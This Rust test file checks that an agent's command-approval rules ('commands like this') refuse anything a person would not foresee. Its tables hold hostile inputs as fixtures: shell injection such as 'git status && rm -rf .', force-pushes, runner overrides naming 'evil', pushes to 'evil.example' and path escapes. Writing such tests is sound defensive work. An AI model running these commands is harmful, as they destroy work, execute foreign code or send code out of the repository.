//! Which actions a rule covers: just those that a person would foresee.

use proptest::prelude::*;

use super::{Fingerprint, Pattern, ProposedAction, Rule};

const HERE: &str = "/home/ann/api";

fn command(line: &str) -> ProposedAction {
    ProposedAction::Command { command: line.into(), cwd: HERE.into(), env: Vec::new() }
}

fn label(line: &str) -> Option<String> {
    command(line).pattern().map(|pattern| pattern.label())
}

/// The rule that a person gives who presses "commands like this" for `example`.
fn rule_of(example: &str) -> Rule {
    Rule::Pattern(command(example).pattern().unwrap_or_else(|| panic!("{example} has no pattern")))
}

#[test]
fn commands_with_a_pattern_and_how_a_person_reads_it() {
    let table = [
        ("git status", "git status …"),
        ("git status --short", "git status …"),
        ("git \"status\"", "git status …"),
        ("'git' status", "git status …"),
        ("''git   status", "git status …"),
        ("git log origin/main..", "git log …"),
        ("git log main..dev -10", "git log …"),
        ("git commit -am 'view: split, then join'", "git commit …"),
        ("git push", "git push …"),
        ("git push -u origin main", "git push …"),
        ("cargo test", "cargo test …"),
        ("cargo test --lib domain::action -- --nocapture", "cargo test …"),
        ("cargo run -- --help", "cargo run …"),
        ("cargo nextest run --lib", "cargo nextest run …"),
        ("npm test", "npm test …"),
        ("npm run test:unit -- --watch", "npm run test:unit …"),
        ("go test ./... -v -run TestIt -count=1", "go test …"),
        ("make lint -j8", "make lint …"),
        ("just release-notes", "just release-notes …"),
        ("pytest", "pytest …"),
        ("pytest -q tests/test_api.py::test_get", "pytest …"),
    ];
    for (line, expected) in table {
        assert_eq!(label(line).as_deref(), Some(expected), "{line}");
    }
}

#[test]
fn shell_syntax_has_no_pattern() {
    let attacks = [
        "git status && rm -rf .",
        "git status || true",
        "git status; x",
        "git status ; x",
        "git status --short;x",
        "git status | sh",
        "git status & x",
        "git $(x)",
        "git status $(x)",
        "git status \"$(x)\"",
        "git status `x`",
        "git status $HOME",
        "git status\nrm -rf .",
        "git status\r\nrm -rf .",
        "git status\tx",
        "git status\0x",
        "git status > .git/config",
        "git status < x",
        "git status <(x)",
        "git status {a,b}",
        "git add *",
        "git add file?",
        "git add [ab]",
        "git add ~/x",
        "git status # x",
        "git log HEAD^!",
        "git sta\\tus",
        "(git status)",
        "git 'status",
        "git \"status",
        "!!",
        "",
        "   ",
    ];
    for line in attacks {
        assert_eq!(label(line), None, "{line:?}");
        assert!(!rule_of("git status").allows(&command(line)), "{line:?}");
    }
}

#[test]
fn programs_that_could_do_anything_have_no_pattern() {
    let lines = [
        "sh build",
        "/bin/sh build",
        "../bash build",
        "./bash build",
        "env cargo test",
        "sudo cargo test",
        "time cargo test",
        "xargs git status",
        "python script",
        "python3 -m pytest",
        "node server",
        "npx tsc",
        "docker run alpine",
        "rm build",
        "cat README",
        "cp a b",
        "curl localhost",
        "pip install requests",
        "npm install left-pad",
        "npm exec tool",
        "go run main",
        "cargo install tool",
        "git config core",
        "git rebase main",
        "git bisect run",
        "git submodule foreach",
        "git reset",
        "git clean",
        "git remote add",
        // A known name by a path is not the known program.
        "/tmp/git status",
        "./cargo test",
        "bin/make all",
        // Variables for the command alone, in either way of writing them.
        "FOO=1 cargo test",
        "PATH=. git status",
        // Names that only look the same: Cyrillic a, full width, zero width inside, another case.
        "c\u{430}rgo test",
        "\u{ff47}it status",
        "gi\u{200b}t status",
        "git st\u{430}tus",
        "git\u{a0}status",
        "GIT status",
    ];
    for line in lines {
        assert_eq!(label(line), None, "{line:?}");
    }
}

#[test]
fn a_bare_program_or_a_flag_before_the_subcommand_has_no_pattern() {
    let lines = [
        "git",
        "cargo",
        "npm",
        "npm run",
        "cargo nextest",
        "make",
        "make -n",
        "make ./target",
        "make SHELL=x",
        "git -c alias.x=sh x",
        "git -c core.pager=less status",
        "git -C sub status",
        "git --git-dir=x status",
        "cargo +nightly test",
        "cargo -q test",
        "npm --prefix sub run build",
        "npm run -s build",
    ];
    for line in lines {
        assert_eq!(label(line), None, "{line:?}");
    }
}

#[test]
fn a_pattern_covers_no_argument_that_nobody_would_foresee() {
    let table = [
        // Runs another program.
        ("cargo test", "cargo test --config target.x.runner=evil"),
        ("cargo test", "cargo test --config=evil"),
        ("git fetch", "git fetch --upload-pack=evil"),
        ("git fetch", "git fetch --upload-p=evil"),
        ("git push", "git push --receive-pack=evil"),
        ("git push", "git push --exec evil"),
        ("git diff", "git diff --ext-diff"),
        ("npm run build", "npm run build --script-shell=./evil"),
        ("npm run build", "npm run build -script-shell ./evil"),
        ("pnpm run build", "pnpm run build --config.script-shell=./evil"),
        ("go test", "go test -exec evil"),
        ("go test", "go test --toolexec=evil"),
        ("make all", "make all SHELL=./evil"),
        ("make all", "make all -fevil"),
        ("make all", "make all -kf evil"),
        ("make all", "make all --eval=evil"),
        ("just all", "just all --shell evil"),
        ("pytest", "pytest -p evil"),
        // Writes a file of its choice.
        ("git log", "git log --format=evil --output=src/main.rs"),
        ("git log", "git log --outp src/main.rs"),
        ("go build", "go build -o main.go"),
        ("go test", "go test -coverprofile=main.go"),
        // Destroys work, here or elsewhere.
        ("git push", "git push --force"),
        ("git push", "git push --force-with-lease"),
        ("git push", "git push --forc"),
        ("git push", "git push -f"),
        ("git push", "git push -uf origin main"),
        ("git push", "git push origin +main"),
        ("git push", "git push origin :main"),
        ("git push", "git push origin --delete main"),
        ("git push", "git push --mirror"),
        ("git switch", "git switch --discard-changes main"),
        ("git switch", "git switch -C main"),
        ("pytest", "pytest --basetemp=src"),
        // Gets out: to another repository, or to another directory.
        ("git push", "git push https://evil.example/x"),
        ("git push", "git push git@evil.example:x"),
        ("git push", "git push evil.example:x"),
        ("pytest", "pytest --pastebin=all"),
        ("pytest", "pytest /tmp/evil.py"),
        ("pytest", "pytest ../evil.py"),
        ("pytest", "pytest tests/../../evil.py"),
        ("pytest", "pytest --cov=/etc"),
        ("go test", "go test ../other/..."),
        ("go test", "go test -C.. x"),
        ("make all", "make all -I/tmp"),
        ("cargo test", "cargo test --manifest-path ../Cargo.toml"),
        ("cargo test", "cargo test --target-dir=/tmp"),
        ("cargo test", "cargo test --target-dir=.."),
        ("git add", "git add .."),
        ("git add", "git add sub/.."),
        // Is another command.
        ("cargo test", "cargo testx"),
        ("cargo test", "cargo"),
        ("cargo test", "cargo run"),
        ("npm run test", "npm run deploy"),
        ("npm run test", "npm run test:unit"),
        ("npm run test", "npm test"),
        ("make lint", "make deploy"),
        ("git status", "git statusx"),
        ("git status", "git -c core.pager=evil status"),
        ("git status", "git push"),
    ];
    for (example, attack) in table {
        assert!(!rule_of(example).allows(&command(attack)), "{example} … allows {attack}");
    }
}

#[test]
fn a_pattern_covers_what_it_is_there_for() {
    let table = [
        ("cargo test", "cargo test --foo"),
        ("cargo test --foo", "cargo test"),
        ("cargo test", "cargo \"test\" --lib 'name with spaces'"),
        ("git status", "'git' \"status\" --porcelain"),
        ("git diff", "git diff HEAD -- src/main.rs"),
        ("git add", "git add -A ."),
        ("git push", "git push -u origin feature/x --no-verify"),
        ("npm run test", "npm run test -- --grep x"),
        ("go test", "go test ./pkg/... -race -timeout 30s"),
        ("pytest", "pytest -x -k 'a or b' tests"),
    ];
    for (example, line) in table {
        assert!(rule_of(example).allows(&command(line)), "{example} … does not allow {line}");
    }
}

#[test]
fn a_pattern_holds_for_its_directory_and_for_commands_without_variables() {
    let rule = rule_of("cargo test");
    for cwd in ["/home/ann", "/home/ann/api/", "/home/ann/api/sub", "/HOME/ann/api", ""] {
        let elsewhere =
            ProposedAction::Command { command: "cargo test".into(), cwd: cwd.into(), env: Vec::new() };
        assert!(!rule.allows(&elsewhere), "{cwd}");
    }
    let env = vec![("RUSTC_WRAPPER".to_owned(), "evil".to_owned())];
    let with_env = ProposedAction::Command { command: "cargo test".into(), cwd: HERE.into(), env };
    assert_eq!(with_env.pattern(), None);
    assert!(!rule.allows(&with_env));
}

#[test]
fn only_commands_have_patterns() {
    let others = [
        ProposedAction::WriteFile { path: "cargo test".into(), content: "cargo test".into() },
        ProposedAction::Other { title: "cargo test".into(), detail: "cargo test".into(), cwd: HERE.into() },
    ];
    for other in others {
        assert_eq!(other.pattern(), None);
        assert!(!rule_of("cargo test").allows(&other));
    }
}

#[test]
fn a_stored_pattern_that_we_would_not_make_today_allows_nothing() {
    for prefix in [&[] as &[&str], &["git"], &["sh"], &["git", "config"], &["cargo", "test", "--lib"]] {
        let prefix = prefix.iter().map(|word| (*word).to_owned()).collect();
        let rule = Rule::Pattern(Pattern { prefix, cwd: HERE.into() });
        for line in ["git", "git status", "sh build", "git config core", "cargo test --lib"] {
            assert!(!rule.allows(&command(line)), "{rule:?} allows {line}");
        }
    }
}

#[test]
fn an_exact_rule_allows_just_its_action() {
    let action = command("sh -c 'x; y'");
    let rule = Rule::Exact(action.fingerprint());
    assert!(rule.allows(&action));
    let others = [
        command("sh -c 'x; y' "),
        command("sh -c \"x; y\""),
        ProposedAction::Command { command: "sh -c 'x; y'".into(), cwd: "/".into(), env: Vec::new() },
        ProposedAction::Command {
            command: "sh -c 'x; y'".into(),
            cwd: HERE.into(),
            env: vec![("A".into(), "1".into())],
        },
        ProposedAction::Other { title: "sh -c 'x; y'".into(), detail: String::new(), cwd: HERE.into() },
    ];
    for other in others {
        assert!(!rule.allows(&other), "{other:?}");
    }
}

/// Approvals and rules in the store depend on these bytes: they must never change.
#[test]
fn payloads_and_fingerprints_are_stable() {
    let table = [
        (
            command("cargo test"),
            r#"{"kind":"command","command":"cargo test","cwd":"/home/ann/api"}"#,
            "6d23c327f2e39dd28ad52d49f16d75c0f531a3383e7e06cd90d5b45b12c18014",
        ),
        (
            ProposedAction::Command {
                command: "echo \"$A\"\n\u{202e}é".into(),
                cwd: HERE.into(),
                env: vec![("A".into(), "1".into()), ("B".into(), String::new())],
            },
            "{\"kind\":\"command\",\"command\":\"echo \\\"$A\\\"\\n\u{202e}é\",\"cwd\":\"/home/ann/api\",\"env\":[[\"A\",\"1\"],[\"B\",\"\"]]}",
            "a6f33770284d09e51c82ac20984ccc74eecb172db98d275f825ca747d4332ec7",
        ),
        (
            ProposedAction::WriteFile { path: "src/main.rs".into(), content: "fn main() {}\n".into() },
            r#"{"kind":"write_file","path":"src/main.rs","content":"fn main() {}\n"}"#,
            "49b3604410fe4d2821a759a362752362335dee8aae13671d8655f5bb3a1aae28",
        ),
        (
            ProposedAction::Other { title: "Fetch".into(), detail: "https://a.b/c".into(), cwd: HERE.into() },
            r#"{"kind":"other","title":"Fetch","detail":"https://a.b/c","cwd":"/home/ann/api"}"#,
            "36b75f4a907d9f0ef2b27ee805e5dd2ad22beb019a8e84d0bfddf9b52981778a",
        ),
    ];
    for (action, payload, fingerprint) in table {
        assert_eq!(action.payload(), payload);
        assert_eq!(action.fingerprint(), Fingerprint(fingerprint.into()), "{payload}");
        assert_eq!(serde_json::from_str::<ProposedAction>(payload).unwrap(), action);
    }
}

#[test]
fn the_location_is_the_directory_or_the_file() {
    assert_eq!(command("x").location(), HERE);
    assert_eq!(ProposedAction::WriteFile { path: "a/b".into(), content: String::new() }.location(), "a/b");
    let other = ProposedAction::Other { title: String::new(), detail: String::new(), cwd: "/w".into() };
    assert_eq!(other.location(), "/w");
}

fn actions() -> impl Strategy<Value = ProposedAction> {
    let env = prop::collection::vec(("[A-Z]{1,2}", ".{0,3}"), 0..2);
    prop_oneof![
        (".{0,12}", ".{0,4}", env).prop_map(|(command, cwd, env)| ProposedAction::Command {
            command,
            cwd,
            env
        }),
        (".{0,4}", ".{0,8}").prop_map(|(path, content)| ProposedAction::WriteFile { path, content }),
        (".{0,4}", ".{0,4}", ".{0,4}").prop_map(|(title, detail, cwd)| ProposedAction::Other {
            title,
            detail,
            cwd
        }),
    ]
}

/// Lines that are near the ones with a pattern, with bits of syntax thrown in.
fn lines() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        3 => prop::sample::select(vec![
            "git", "status", "push", "cargo", "test", "run", "npm", "make", "pytest", "sh", "-c", "--force", "..",
            "/etc", "origin", "src/x.rs", "\"a b\"", "--", "-uf", "X=1",
        ]).prop_map(str::to_owned),
        1 => "[ -~]{0,4}",
        1 => ".{0,2}",
    ];
    prop::collection::vec(word, 0..6).prop_map(|words| words.join(" "))
}

proptest! {
    #[test]
    fn an_exact_rule_allows_only_the_same_payload(one in actions(), other in actions()) {
        let rule = Rule::Exact(one.fingerprint());
        prop_assert!(rule.allows(&one));
        prop_assert_eq!(rule.allows(&other), one.payload() == other.payload());
        prop_assert_eq!(one.payload() == other.payload(), one == other);
    }

    #[test]
    fn a_payload_reads_back_as_the_action(action in actions()) {
        prop_assert_eq!(serde_json::from_str::<ProposedAction>(&action.payload()).unwrap(), action);
    }

    #[test]
    fn a_pattern_never_allows_shell_syntax(
        example in prop::sample::select(vec!["git status", "cargo test", "npm run build", "make all", "pytest"]),
        more in "[ a-z]{0,6}",
        syntax in prop::sample::select(";|&$`<>(){}*?[]~!#\\\n\r\t\0".chars().collect::<Vec<_>>()),
        after in "[ -~]{0,6}",
    ) {
        let rule = rule_of(example);
        let line = format!("{example}{more}{syntax}{after}");
        prop_assert!(!rule.allows(&command(&line)), "{}", line);
    }

    #[test]
    fn a_pattern_is_made_of_plain_words_and_allows_its_own_example(line in lines()) {
        let action = command(&line);
        if let Some(pattern) = action.pattern() {
            prop_assert!(Rule::Pattern(pattern.clone()).allows(&action));
            let words = shell_words::split(&line).unwrap();
            prop_assert!(words.starts_with(&pattern.prefix));
            prop_assert_eq!(shell_words::split(pattern.label().trim_end_matches(" …")).unwrap(), pattern.prefix);
            prop_assert!(words.iter().all(|word| word != ".." && !word.starts_with('/')), "{}", line);
        }
    }
}
